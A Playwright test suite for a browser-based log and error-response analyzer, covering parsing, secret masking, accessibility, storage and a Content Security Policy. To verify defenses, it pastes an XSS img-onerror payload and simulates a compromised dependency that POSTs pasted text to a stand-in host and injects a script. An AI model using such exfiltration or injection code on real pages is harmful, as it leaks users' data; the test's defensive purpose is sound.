import AxeBuilder from '@axe-core/playwright';
import { startSession } from '../src/engine/session.ts';
import { sessionHref } from '../src/engine/trail.ts';
import { codeIndex, tree } from './content.ts';
import { expect, test } from './test.ts';

/** The error example of seed 000, as the Xcode console prints it. */
const IOS_7014 =
  'Demo[83383:2546279] [mPaaSLog] APMobileNetwork alipay.client.getUnionResource resp:{ "Content-Length" = 0; "Content-Type" = "text/plain;charset=UTF-8"; Date = "Tue, 11 Aug 2020 04:50:08 GMT"; memo = "%E9%AA%8C%E7%AD%BERPC%E6%8E%A5%E5%8F%A3%20%E5%8A%A0%E7%AD%BE%E6%95%B0%E6%8D%AE%E4%B8%BA%E7%A9%BA"; "mgw-traceid" = 0a1d7667159712140890222728553; "result-status" = 7014; "server-time" = 1597121408902; tips = "%E9%AA%8C%E7%AD%BERPC%E6%8E%A5%E5%8F%A3%20%E5%8A%A0%E7%AD%BE%E6%95%B0%E6%8D%AE%E4%B8%BA%E7%A9%BA"; }';

const entry7014 = codeIndex()
  .tables.find((t) => t.platform === 'mpaas')!
  .codes.find((e) => e.code === '7014')!;

test('a pasted Xcode log line becomes a finding that links to its step and its code page', async ({ page }) => {
  const sent: string[] = [];
  page.on('request', (r) => {
    if (r.method() !== 'GET') sent.push(`${r.method()} ${r.url()}`);
  });
  await page.goto('/');
  await page.getByRole('link', { name: 'Paste a log' }).first().click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Paste a log or an error response');
  const box = page.getByRole('textbox', { name: 'Log or error response' });
  await box.fill(`noise before\n${IOS_7014}\n<img src=x onerror="window.__pwned=1">`);
  await page.getByRole('button', { name: 'Analyze' }).click();
  await expect(page.getByRole('heading', { name: '1 finding' })).toBeFocused();
  const finding = page.getByRole('article');
  await expect(finding).toContainText('7014');
  await expect(finding).toContainText(entry7014.title);
  await expect(finding).toContainText('Seen once, line 2');
  await expect(finding).toContainText('0a1d7667159712140890222728553');
  await expect(finding).toContainText('验签RPC接口 加签数据为空');
  // Nothing pasted is ever turned into HTML, and nothing was sent anywhere.
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(sent).toEqual([]);

  await finding.getByRole('link', { name: 'Code 7014 in the reference' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toContainText(entry7014.title);
  await page.goBack();
  if (entry7014.step) {
    await page.getByRole('textbox', { name: 'Log or error response' }).fill(IOS_7014);
    await page.getByRole('button', { name: 'Analyze' }).click();
    // An Xcode console log says iOS and 7014: the guide starts from the top and passes what those answer.
    const t = tree(entry7014.step.split('/')[0]!);
    const walked = startSession(t, { platform: { value: 'ios', source: 'log' }, code: { value: '7014', source: 'log' } });
    expect(walked.visits.map((v) => v.step)).toContain(entry7014.step.split('/')[1]);
    const landing = sessionHref(t, walked);
    const go = page.getByRole('link', { name: /Go to the step that fixes it/ });
    await expect(go).toHaveAttribute('href', landing);
    await go.click();
    await expect(page).toHaveURL(new RegExp(`${landing.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`));
  }
});

test('pasting analyzes at once; text that fits no platform says so plainly', async ({ page }) => {
  await page.goto('/analyze');
  const box = page.getByRole('textbox', { name: 'Log or error response' });
  // A paste event (what Ctrl+V fires) with the text in the box: no button press needed.
  await box.evaluate((el: HTMLTextAreaElement, text) => {
    el.value = text;
    el.dispatchEvent(new Event('paste', { bubbles: true }));
  }, '{"error_rsp":{"code":40,"msg":"Missing required arguments:iid/num_iid"}}');
  await expect(page.getByRole('heading', { name: '1 finding' })).toBeVisible();
  await expect(page.getByRole('article')).toContainText('40');

  await box.fill('Everything went fine today. status=200');
  await page.getByRole('button', { name: 'Analyze' }).click();
  await expect(page.getByRole('heading', { name: '0 findings' })).toBeVisible();
  await expect(page.getByRole('main')).toContainText('Nothing here matches');
  await page.getByRole('button', { name: 'Clear' }).click();
  await page.getByRole('button', { name: 'Analyze' }).click();
  await expect(page.getByRole('alert')).toHaveText('Paste some text or open a file first.');
});

test('a 20 MB paste is analyzed off the page, without putting megabytes into the box, and every finding in it is counted', async ({ page }) => {
  await page.goto('/analyze');
  const box = page.getByRole('textbox', { name: 'Log or error response' });
  // 20 MB of ordinary log lines with the error line every 10,000 lines, pasted at once (a paste event
  // carrying the text, as Ctrl+V sends it).
  const lines = await box.evaluate((el: HTMLTextAreaElement, errorLine) => {
    const filler = 'I/Example: 2026-12-02 06:00:00.000 request ok, nothing to see here, status=200 len=1024';
    const block = `${`${filler}\n`.repeat(9_999)}${errorLine}\n`;
    const text = block.repeat(Math.ceil((20 * 1024 * 1024) / block.length));
    const data = new DataTransfer();
    data.setData('text/plain', text);
    el.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
    return text.split('\n').length - 1;
  }, IOS_7014);
  const times = Math.ceil(lines / 10_000);
  await expect(page.getByRole('heading', { name: '1 finding' })).toBeVisible({ timeout: 30_000 });
  await expect(page.getByRole('article')).toContainText(`Seen ${times.toLocaleString('en')} times, lines 10,000–${lines.toLocaleString('en')}`);
  await expect(page.getByRole('main')).toContainText('read like an opened file and not shown in the box');
  await expect(box).toHaveValue('');
  // The page still answers: a new paste replaces the result.
  await box.fill('{"error_response":{"code":27,"msg":"Invalid session"}}');
  await page.getByRole('button', { name: 'Analyze' }).click();
  await expect(page.getByRole('article')).toContainText('Invalid session');
});

test('a log file with several platforms is grouped with counts; a huge or binary file does not break the page', async ({ page }) => {
  await page.goto('/analyze');
  const log = [
    IOS_7014,
    '{"RequestId":"4C467B38-3910-447D-87BC-AC049166F216","HostId":"cloudpush.aliyuncs.com","Code":"MissingAppKey","Message":"AppKey is mandatory for this action."}',
    '{"error_response":{"code":27,"msg":"Invalid session","sub_code":"invalid-sessionkey"}}',
    IOS_7014,
  ].join('\n');
  await page.locator('input[type=file]').setInputFiles({ name: 'app.log', mimeType: 'text/plain', buffer: Buffer.from(log) });
  await expect(page.getByRole('heading', { name: '3 findings' })).toBeVisible();
  await expect(page.getByRole('main')).toContainText('app.log');
  await expect(page.getByRole('article').filter({ hasText: '7014' })).toContainText('Seen 2 times, lines 1–4');
  await expect(page.getByRole('article').filter({ hasText: 'MissingAppKey' })).toContainText('Missing{ParameterName}');

  // 20 MB of binary garbage: read in the worker, answered with "nothing found", page still usable.
  const garbage = Buffer.alloc(20 * 1024 * 1024);
  for (let i = 0; i < garbage.length; i += 4096) garbage.writeUInt32LE((i * 2654435761) >>> 0, i);
  await page.locator('input[type=file]').setInputFiles({ name: 'core.bin', mimeType: 'application/octet-stream', buffer: garbage });
  await expect(page.getByRole('heading', { name: '0 findings' })).toBeVisible({ timeout: 20_000 });

  // Over 50 MB is refused with a message before it is read.
  await page.evaluate(() => {
    const input = document.querySelector<HTMLInputElement>('input[type=file]')!;
    const big = new File([new Uint8Array(1)], 'huge.log');
    Object.defineProperty(big, 'size', { value: 60 * 1024 * 1024 });
    const dt = new DataTransfer();
    dt.items.add(big);
    Object.defineProperty(input, 'files', { value: dt.files, configurable: true });
    input.dispatchEvent(new Event('change', { bubbles: true }));
  });
  await expect(page.getByRole('alert')).toContainText('Files up to 50 MB can be read');
});

test('axe finds no WCAG 2.2 A/AA violations on the analyzer with findings', async ({ page }) => {
  await page.goto('/analyze');
  await page.getByRole('textbox', { name: 'Log or error response' }).fill(IOS_7014);
  await page.getByRole('button', { name: 'Analyze' }).click();
  await expect(page.getByRole('heading', { name: '1 finding' })).toBeVisible();
  const result = await new AxeBuilder({ page }).withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa']).analyze();
  expect(result.violations.map((v) => `${v.id} ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`)).toEqual([]);
});

test('each finding carries data-finding, data-platform and data-code; text from no platform yields none', async ({ page }) => {
  await page.goto('/analyze');
  const box = page.getByRole('textbox', { name: 'Log or error response' });
  const samples: [string, string, string][] = [
    [IOS_7014, 'mpaas', '7014'],
    ['11-20 10:21:34.001 E/DynamicRelease(12345): RpcException: [2] Cannot connect to the network.', 'mpaas-android', '2'],
    ['RPC failed: Error Domain=DTRpcErrorDomain Code=0 kDTRpcNetworkError', 'mpaas-ios', 'kDTRpcNetworkError'],
    [
      '{"RequestId":"D8A1D4B2-1111-2222-3333-444455556666","HostId":"cloudpush.aliyuncs.com","Code":"SignatureDoesNotMatch","Message":"Specified signature is not matched with our calculation."}',
      'aliyun',
      'SignatureDoesNotMatch',
    ],
    ['{"error_response":{"code":27,"msg":"Invalid session","sub_code":"invalid-sessionkey"}}', 'top', '27'],
    [
      'HTTP/1.1 401 Unauthorized\n{"error":"auth_bad_access_token","exception":"org.apache.usergrid.rest.exceptions.SecurityException","timestamp":1542350743000,"duration":0,"error_description":"Unable to authenticate due to corrupt access token"}',
      'easemob',
      'auth_bad_access_token',
    ],
  ];
  for (const [text, platform, code] of samples) {
    await box.fill(text);
    await page.getByRole('button', { name: 'Analyze' }).click();
    await expect(page.locator(`[data-finding][data-platform="${platform}"][data-code="${code}"]`), `${platform} ${code}`).toHaveCount(1);
  }
  await box.fill('2026-12-01 10:00:00 INFO user logged in\n{"status":"ok","items":[1,2,3]}\n<html><body>502 Bad Gateway</body></html>');
  await page.getByRole('button', { name: 'Analyze' }).click();
  await expect(page.getByRole('heading', { name: '0 findings' })).toBeVisible();
  await expect(page.locator('[data-finding]')).toHaveCount(0);
});

test('the page policy lets nothing pasted leave the browser or run as script', async ({ page, consoleErrors }) => {
  await page.goto('/analyze');
  await page.getByRole('textbox', { name: 'Log or error response' }).fill(IOS_7014);
  await page.getByRole('button', { name: 'Analyze' }).click();
  await expect(page.getByRole('heading', { name: '1 finding' })).toBeVisible();
  // What a compromised dependency would try: send the text away, or run a script it injected.
  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    let sent = 'sent';
    try {
      await fetch('https://collector.example/upload', { method: 'POST', body: document.querySelector('textarea')!.value });
    } catch {
      sent = 'blocked';
    }
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true';
    document.body.append(script);
    await new Promise((r) => setTimeout(r, 100));
    return { sent, ran: (window as unknown as { __injected?: boolean }).__injected === true, violations: violations.sort() };
  });
  expect(outcome).toEqual({ sent: 'blocked', ran: false, violations: ['connect-src', 'script-src-elem'] });
  // Chromium reports each refusal on the console too: those are this test's own.
  const own = consoleErrors.filter((e) => /Content Security Policy/.test(e));
  expect(own.length).toBeGreaterThan(0);
  consoleErrors.splice(0, consoleErrors.length, ...consoleErrors.filter((e) => !own.includes(e)));
});

test('a finding’s excerpt and fields are masked like a ticket summary, and the person at the keyboard can reveal them', async ({ page }) => {
  await page.goto('/analyze');
  const sign = '668FB4A049F71A1C845EF8C05B1F3E66';
  await page
    .getByRole('textbox', { name: 'Log or error response' })
    .fill(
      `{"error_response":{"args":{"arg":[{"key":"app_key","value":"12345678"},{"key":"sign","value":"${sign}"}]},"code":25,"msg":"Invalid signature","request_id":"zt2r9i5yxbe2"}}`,
    );
  await page.getByRole('button', { name: 'Analyze' }).click();
  const finding = page.getByRole('article');
  await finding.getByText('From the log').click();
  await expect(finding).toContainText('[masked signature]');
  await expect(finding).toContainText('zt2r9i5yxbe2');
  expect(await finding.innerText()).not.toContain(sign);
  await expect(finding).toContainText('1 secret or personal detail in this excerpt is masked.');
  // One toggle button whose name never changes: aria-pressed says whether the original is shown.
  const reveal = finding.getByRole('button', { name: 'Show the original' });
  await expect(reveal).toHaveAttribute('aria-pressed', 'false');
  await reveal.click();
  await expect(reveal).toHaveAttribute('aria-pressed', 'true');
  await expect(finding).toContainText(sign);
  await expect(finding).toContainText('Shown as in the log, secrets included');
  await reveal.press('Space');
  await expect(reveal).toHaveAttribute('aria-pressed', 'false');
  expect(await finding.innerText()).not.toContain(sign);
});

test('AccessKeys and phone numbers in an excerpt are masked; text no platform claims is masked too', async ({ page }) => {
  await page.goto('/analyze');
  const id = 'LTAI5tQ9xKpZrW3mN8bV2cD7';
  const phone = '13812345678';
  // A signature error from an SMS call: the server's string to sign repeats the request, AccessKey and phone number included.
  const body = {
    RequestId: '4C467B38-3910-447D-87BC-AC049166F216',
    HostId: 'dysmsapi.aliyuncs.com',
    Code: 'SignatureDoesNotMatch',
    Message: `Specified signature is not matched with our calculation. server string to sign is:GET&%2F&AccessKeyId%3D${id}%26Action%3DSendSms%26PhoneNumbers%3D${phone}%26SignatureMethod%3DHMAC-SHA1`,
  };
  await page
    .getByRole('textbox', { name: 'Log or error response' })
    .fill(`${JSON.stringify(body, null, 2)}\n{"error":"invalid_grant","error_description":"invalid password for ${phone}"}`);
  await page.getByRole('button', { name: 'Analyze' }).click();
  const finding = page.getByRole('article');
  await finding.getByText('From the log').click();
  for (const kind of ['accessKeyId', 'phone']) await expect(finding.locator('pre')).toContainText(`[masked ${kind}]`);
  await expect(finding.locator('pre')).toContainText('SignatureDoesNotMatch');
  await expect(finding.locator('pre')).toContainText('4C467B38-3910-447D-87BC-AC049166F216');
  for (const value of [id, phone]) expect(await page.getByRole('main').innerText()).not.toContain(value);
  await finding.getByRole('button', { name: 'Show the original' }).click();
  for (const value of [id, phone]) await expect(finding.locator('pre')).toContainText(value);
  // The excerpt open and the toggle pressed: still readable (its text once had the dark code block's colour) and clean.
  const axe = await new AxeBuilder({ page }).withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa']).analyze();
  expect(axe.violations.map((v) => `${v.id} ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`)).toEqual([]);

  // The lines that look like an error but fit no platform: masked, with their own toggle.
  const unclaimed = page.getByRole('region', { name: 'Looks like an error, but no platform fits' });
  await expect(unclaimed).toContainText('[masked phone]');
  expect(await unclaimed.innerText()).not.toContain(phone);
  await unclaimed.getByRole('button', { name: 'Show the original' }).click();
  await expect(unclaimed).toContainText(phone);
});

test('findings are not lost: Back from their step, or the header’s link, shows them and the text again, kept for this tab only', async ({ page, context }) => {
  const text = `noise before\n${IOS_7014}`;
  await page.goto('/analyze');
  const box = page.getByRole('textbox', { name: 'Log or error response' });
  await box.fill(text);
  await page.getByRole('button', { name: 'Analyze' }).click();
  await expect(page.getByRole('heading', { name: '1 finding' })).toBeFocused();
  expect(entry7014.step).toBeTruthy();

  await page.getByRole('link', { name: /Go to the step that fixes it/ }).click();
  // The step the log's facts lead to in the guide (the hand-off itself is checked in the first test).
  await expect(page).toHaveURL(new RegExp(`/t/${entry7014.step!.split('/')[0]}/[a-z0-9-]+(\\?|$)`));
  await page.goBack();
  await expect(page.getByRole('heading', { name: '1 finding' })).toBeVisible();
  await expect(page.getByRole('article')).toContainText(entry7014.title);
  await expect(page.getByRole('main')).toContainText('Your last analysis in this tab');
  await expect(box).toHaveValue(text);

  await page.getByRole('link', { name: /Go to the step that fixes it/ }).click();
  // The step the log's facts lead to in the guide (the hand-off itself is checked in the first test).
  await expect(page).toHaveURL(new RegExp(`/t/${entry7014.step!.split('/')[0]}/[a-z0-9-]+(\\?|$)`));
  await page.getByRole('navigation', { name: 'Site' }).getByRole('link', { name: 'Paste a log' }).click();
  await expect(page.getByRole('heading', { name: '1 finding' })).toBeVisible();
  await expect(page.getByRole('article')).toContainText('7014');
  await expect(box).toHaveValue(text);
  const result = await new AxeBuilder({ page }).withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa']).analyze();
  expect(result.violations.map((v) => `${v.id} ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`)).toEqual([]);

  // Kept in this tab's sessionStorage: never in localStorage, never in the address.
  const kept = await page.evaluate(() => ({ session: JSON.stringify(sessionStorage), local: JSON.stringify(localStorage), url: location.href }));
  expect(kept.session).toContain('noise before');
  expect(kept.local).not.toContain('noise before');
  expect(kept.local).not.toContain('APMobileNetwork');
  expect(kept.url).not.toContain('7014');
  // Another tab does not see it.
  const other = await context.newPage();
  await other.goto('/analyze');
  await expect(other.getByRole('textbox', { name: 'Log or error response' })).toHaveValue('');
  await expect(other.getByRole('heading', { name: /finding/ })).toHaveCount(0);
  await other.close();

  // Clear forgets it.
  await page.getByRole('button', { name: 'Clear' }).click();
  await page.reload();
  await expect(box).toHaveValue('');
  await expect(page.getByRole('heading', { name: /finding/ })).toHaveCount(0);
});

test('a text handed over by the home search is analyzed once; Back shows the last analysis, not that text again', async ({ page }) => {
  await page.goto('/');
  await page
    .getByRole('searchbox', { name: 'Search symptoms, codes and steps' })
    .fill('{"error_rsp":{"code":40,"msg":"Missing required arguments:iid/num_iid"}}');
  await page.getByRole('button', { name: 'Analyze it' }).click();
  await expect(page.getByRole('article')).toContainText('Missing required arguments');
  // The person pastes something else, looks it up, and comes back.
  await page.getByRole('textbox', { name: 'Log or error response' }).fill('{"error_response":{"code":27,"msg":"Invalid session"}}');
  await page.getByRole('button', { name: 'Analyze' }).click();
  await expect(page.getByRole('article')).toContainText('Invalid session');
  await page.getByRole('article').getByRole('link', { name: 'Code 27 in the reference' }).click();
  await expect(page).toHaveURL(/\/codes\//);
  await page.goBack();
  await expect(page.getByRole('article')).toContainText('Invalid session');
  await expect(page.getByRole('textbox', { name: 'Log or error response' })).toHaveValue('{"error_response":{"code":27,"msg":"Invalid session"}}');
});

test('a paste over 1 MB gives findings without megabytes in the box; Back shows them again, the text itself not kept', async ({ page }) => {
  await page.goto('/analyze');
  const box = page.getByRole('textbox', { name: 'Log or error response' });
  await expect(page.getByRole('main')).toContainText('A paste over 1 MB is read like an opened file');
  // What Ctrl+V sends: a paste event carrying 2 MB of log lines with one error line in the middle.
  const chars = await box.evaluate((el: HTMLTextAreaElement, errorLine) => {
    const filler = `${'I/Example: 2026-12-02 06:00:00.000 request ok, nothing to see here, status=200 len=1024\n'.repeat(12_000)}`;
    const text = `${filler}${errorLine}\n${filler}`;
    const data = new DataTransfer();
    data.setData('text/plain', text);
    el.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
    return text.length;
  }, IOS_7014);
  expect(chars).toBeGreaterThan(2_000_000);
  await expect(page.getByRole('heading', { name: '1 finding' })).toBeVisible({ timeout: 20_000 });
  await expect(page.getByRole('article')).toContainText('Seen once, line 12,001');
  await expect(page.getByRole('main')).toContainText('Pasted text (2.0 MB), read like an opened file and not shown in the box');
  await expect(box).toHaveValue('');
  // The findings are kept for the tab, the megabytes are not.
  expect(await page.evaluate(() => JSON.stringify(sessionStorage).length)).toBeLessThan(50_000);

  await page.getByRole('link', { name: /Go to the step that fixes it/ }).click();
  // Back only once the step is there: a Back while its page is still loading leaves the site instead.
  await expect(page).toHaveURL(/\/t\//);
  await page.goBack();
  await expect(page.getByRole('heading', { name: '1 finding' })).toBeVisible();
  await expect(page.getByRole('main')).toContainText('Pasted text (2.0 MB), read like an opened file and not shown in the box');
  await expect(box).toHaveValue('');
});

test('storage full: the findings are kept without the text, and the page says so; storage blocked: the analysis still works', async ({ browser }) => {
  // A browser whose sessionStorage holds 40,000 characters in all.
  const small = await browser.newContext();
  await small.addInitScript(() => {
    const setItem = Storage.prototype.setItem;
    Storage.prototype.setItem = function (key: string, value: string) {
      if (this === window.sessionStorage) {
        let used = key.length + value.length;
        for (let i = 0; i < this.length; i++) if (this.key(i) !== key) used += this.key(i)!.length + this.getItem(this.key(i)!)!.length;
        if (used > 40_000) throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
      }
      setItem.call(this, key, value);
    };
  });
  let page = await small.newPage();
  await page.goto('/analyze');
  let box = page.getByRole('textbox', { name: 'Log or error response' });
  await box.fill(`${'ordinary line, status=200\n'.repeat(2_000)}${IOS_7014}`);
  await page.getByRole('button', { name: 'Analyze' }).click();
  await expect(page.getByRole('heading', { name: '1 finding' })).toBeVisible();
  await expect(page.getByRole('main')).toContainText('The findings are kept for this tab, but not the text itself');
  await page.getByRole('link', { name: /Go to the step that fixes it/ }).click();
  // Back only once the step is there: a Back while its page is still loading leaves the site instead.
  await expect(page).toHaveURL(/\/t\//);
  await page.goBack();
  await expect(page.getByRole('heading', { name: '1 finding' })).toBeVisible();
  await expect(page.getByRole('main')).toContainText('The findings are kept for this tab, but not the text itself');
  await expect(box).toHaveValue('');
  await small.close();

  // A browser that blocks sessionStorage altogether (reading it throws).
  const blocked = await browser.newContext();
  await blocked.addInitScript(() => {
    Object.defineProperty(window, 'sessionStorage', {
      get() {
        throw new DOMException('The operation is insecure.', 'SecurityError');
      },
    });
  });
  page = await blocked.newPage();
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  await page.goto('/analyze');
  box = page.getByRole('textbox', { name: 'Log or error response' });
  await box.fill(IOS_7014);
  await page.getByRole('button', { name: 'Analyze' }).click();
  await expect(page.getByRole('article')).toContainText(entry7014.title);
  await expect(page.getByRole('main')).toContainText('This browser does not let the page keep these findings');
  expect(errors).toEqual([]);
  await blocked.close();
});
